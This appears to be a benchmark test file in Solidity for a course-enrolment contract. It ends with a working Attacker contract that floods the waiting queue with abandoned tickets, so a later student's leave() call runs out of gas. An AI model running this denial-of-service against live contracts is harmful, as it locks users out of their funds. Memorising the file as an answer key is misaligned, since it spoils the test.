// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./CoursePlaces.sol";

// assay-canary-8db6b412-7ed2-49f2-a7eb-a4f05c748091

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CARA = address(0xCA4A);
    address private constant TEACHER = address(0x7EAC);
    address private constant SCHOOL = address(0x5C);
    uint64 private constant START = 1_790_000_000;
    uint64 private constant TERM = START + 3650 days;

    CoursePlaces private places;
    Attacker private mallory;

    // A course with two places, which Ana and Ben have.
    function setUp() public {
        vm.warp(START);
        places = new CoursePlaces(SCHOOL);
        vm.prank(SCHOOL);
        places.setTeacher(TEACHER, true);
        vm.prank(TEACHER);
        places.openCourse(2, 0.1 ether, TERM);
        enrol(ANA, 0);
        enrol(BEN, 0);
        mallory = new Attacker(places);
        vm.deal(address(mallory), 1 ether);
    }

    function enrol(address student, uint256 course) private {
        vm.deal(student, 1 ether);
        vm.prank(student);
        places.enrol{value: 0.1 ether}(course);
    }

    // With a million gas, which is plenty.
    function anaLeaves() public {
        vm.prank(ANA);
        places.leave{gas: 1_000_000}(0);
    }

    function test_Regular() public {
        require(places.isSeated(0, ANA) && places.isSeated(0, BEN) && places.freePlaces(0) == 0, "two seated");
        enrol(CARA, 0);
        enrol(address(0xD1), 0);
        require(places.ticketOf(0, CARA) == 3 && places.holderOf(3) == CARA && places.queueLength(0) == 2, "waits");
        uint256[] memory page = places.ticketsOf(0, 1, 5);
        require(page.length == 1 && page[0] == 4 && places.ticketsOf(0, 2, 1).length == 0, "a page");
        vm.prank(CARA);
        places.leaveQueue(0);
        require(places.balanceOf(CARA) == 0.1 ether && places.queueLength(0) == 2, "gave up");
        anaLeaves();
        require(places.isSeated(0, address(0xD1)) && places.queueLength(0) == 0, "the next one");
        vm.prank(ANA);
        places.withdraw(payable(ANA));
        require(ANA.balance == 1 ether && places.balanceOf(ANA) == 0, "withdrawn");
        require(places.advance(0, 5) == 0, "nobody waits");

        vm.prank(TEACHER);
        require(places.openCourse(1, 1 ether, TERM) == 1 && places.courses() == 2, "a second");
        vm.prank(ANA);
        places.enrol{value: 1 ether}(1);
        vm.prank(TEACHER);
        places.cancelCourse(1);
        vm.prank(ANA);
        places.reclaim(1);
        require(places.balanceOf(ANA) == 1 ether, "reclaimed");
        vm.prank(ANA);
        require(places.enrolFromBalance(0) == 6 && places.balanceOf(ANA) == 0.9 ether, "out of the balance");
        vm.prank(TEACHER);
        places.addPlaces(0, 1);
        require(places.isSeated(0, ANA) && places.freePlaces(0) == 0 && !places.isFinal(0), "a third place");
        vm.prank(ANA);
        places.handOver(0, address(0xD2));
        require(places.isSeated(0, address(0xD2)) && !places.isSeated(0, ANA), "handed over");

        enrol(CARA, 0);
        vm.warp(TERM);
        places.holdCourse(0);
        require(places.balanceOf(SCHOOL) == 0.03 ether && places.balanceOf(TEACHER) == 0.27 ether, "held");
        vm.prank(CARA);
        places.leaveQueue(0);
        require(places.balanceOf(CARA) == 0.2 ether && address(places).balance == 1.4 ether, "still waits");
        vm.startPrank(SCHOOL);
        places.setTeacher(TEACHER, false);
        places.transferOwnership(ANA);
        vm.stopPrank();
        require(places.teacherCount() == 0 && !places.isTeacher(TEACHER), "no teacher");
        vm.prank(ANA);
        places.renounceOwnership();
    }

    function test_RefusesStudents() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.WrongPrice.selector, 0.2 ether, 0.1 ether));
        places.enrol{value: 0.2 ether}(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.AlreadyIn.selector, 0, ANA));
        places.enrol{value: 0.1 ether}(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotIn.selector, 0, ANA));
        places.leaveQueue(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotCancelled.selector, 0));
        places.reclaim(0);
        vm.stopPrank();
        enrol(CARA, 0);
        vm.startPrank(CARA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.AlreadyIn.selector, 0, CARA));
        places.enrol{value: 0.1 ether}(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotIn.selector, 0, CARA));
        places.leave(0);
        vm.stopPrank();
        vm.prank(TEACHER);
        places.cancelCourse(0);
        vm.prank(CARA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotIn.selector, 0, CARA));
        places.reclaim(0);
    }

    function test_RefusesBalances() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Balances.NothingOwed.selector, ANA));
        places.withdraw(payable(ANA));
        places.leave(0);
        vm.expectRevert(Balances.NoAccount.selector);
        places.withdraw(payable(address(0)));
        vm.stopPrank();
    }

    function test_RefusesHandingOver() public {
        enrol(CARA, 0);
        vm.startPrank(ANA);
        vm.expectRevert(Balances.NoAccount.selector);
        places.handOver(0, address(0));
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.AlreadyIn.selector, 0, BEN));
        places.handOver(0, BEN);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.AlreadyIn.selector, 0, CARA));
        places.handOver(0, CARA);
        vm.stopPrank();
        vm.prank(CARA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotIn.selector, 0, CARA));
        places.handOver(0, address(0xD1));
    }

    function test_RefusesEmptyBalances() public {
        vm.startPrank(CARA);
        vm.expectRevert(abi.encodeWithSelector(Balances.TooLittle.selector, 0, 0.1 ether));
        places.enrolFromBalance(0);
        vm.stopPrank();
    }

    function test_RefusesLateMoves() public {
        vm.prank(BEN);
        places.leave(0);
        enrol(BEN, 0);
        vm.prank(ANA);
        places.leave(0);
        enrol(ANA, 0);
        enrol(CARA, 0);
        vm.warp(TERM - 3 days + 1);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.leave(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.handOver(0, address(0xD1));
        vm.stopPrank();
        vm.prank(address(0xD1));
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.enrolFromBalance(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.advance(0, 1);
        vm.deal(address(this), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.enrol{value: 0.1 ether}(0);
        vm.warp(TERM - 3 days);
        vm.prank(ANA);
        places.leave(0);
    }

    function test_RefusesOtherCourses() public {
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.enrol(1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.leave(1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.enrolFromBalance(1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.handOver(1, BEN);
        vm.prank(address(0));
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.addPlaces(1, 1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.advance(1, 1);
    }

    function test_RefusesCancelledCourses() public {
        vm.startPrank(TEACHER);
        places.cancelCourse(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.cancelCourse(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.addPlaces(0, 1);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.handOver(0, CARA);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.enrolFromBalance(0);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.leave(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.advance(0, 1);
        vm.deal(address(this), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.enrol{value: 0.1 ether}(0);
        vm.warp(TERM);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotOpen.selector, 0));
        places.holdCourse(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoSuchCourse.selector, 1));
        places.holdCourse(1);
    }

    function test_RefusesTeachers() public {
        vm.startPrank(TEACHER);
        vm.expectRevert(CoursePlaces.BadTerms.selector);
        places.openCourse(0, 1, TERM);
        vm.expectRevert(CoursePlaces.BadTerms.selector);
        places.openCourse(1, 0, TERM);
        vm.expectRevert(CoursePlaces.BadTerms.selector);
        places.openCourse(1, 1, START + 3 days - 1);
        vm.expectRevert(CoursePlaces.BadTerms.selector);
        places.addPlaces(0, 0);
        vm.warp(TERM - 3 days + 1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.addPlaces(0, 1);
        require(places.isFinal(0), "final");
        vm.warp(TERM - 1);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotStarted.selector, 0));
        places.holdCourse(0);
        vm.warp(TERM);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.Final.selector, 0));
        places.cancelCourse(0);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        places.setTeacher(ANA, true);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotATeacher.selector, ANA));
        places.openCourse(1, 1, TERM);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotTheTeacher.selector, 0, ANA));
        places.cancelCourse(0);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NotTheTeacher.selector, 0, ANA));
        places.addPlaces(0, 1);
        vm.stopPrank();
        vm.startPrank(SCHOOL);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoChange.selector, TEACHER));
        places.setTeacher(TEACHER, true);
        vm.expectRevert(abi.encodeWithSelector(CoursePlaces.NoChange.selector, ANA));
        places.setTeacher(ANA, false);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.refuse();
        for (uint256 i = 0; i < 10; i++) mallory.fill();
        vm.warp(block.timestamp + 1 hours);
        mallory.wait();
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.anaLeaves, ()));
        require(!done, "Ana leaves");
    }

    function target() public view returns (address) {
        return address(places);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CoursePlaces private places;
    bool private closed;

    constructor(CoursePlaces places_) {
        places = places_;
    }

    function attempt(bytes memory data) private {
        (bool done, ) = address(places).call(data);
        done;
    }

    // what others decide, and a balance that does not arrive
    function refuse() external {
        attempt(abi.encodeCall(places.cancelCourse, (0)));
        attempt(abi.encodeCall(places.holdCourse, (0)));
        attempt(abi.encodeCall(places.openCourse, (1, 1, type(uint64).max)));
        attempt(abi.encodeCall(places.setTeacher, (address(this), true)));
        attempt(abi.encodeCall(places.reclaim, (0)));
        attempt(abi.encodeCall(places.leave, (0)));
        places.enrol{value: 0.1 ether}(0);
        places.leaveQueue(0);
        closed = true;
        attempt(abi.encodeCall(places.withdraw, (payable(address(this)))));
        closed = false;
    }

    // tickets that are given up again
    function fill() external {
        for (uint256 i = 0; i < 12; i++) {
            places.enrol{value: 0.1 ether}(0);
            places.leaveQueue(0);
            places.withdraw(payable(address(this)));
        }
    }

    // a ticket that is kept, and an account that takes nothing
    function wait() external {
        places.enrol{value: 0.1 ether}(0);
        attempt(abi.encodeCall(places.advance, (0, 1_000)));
        closed = true;
        attempt(abi.encodeCall(places.withdraw, (payable(address(this)))));
    }

    receive() external payable {
        require(!closed, "closed");
    }
}
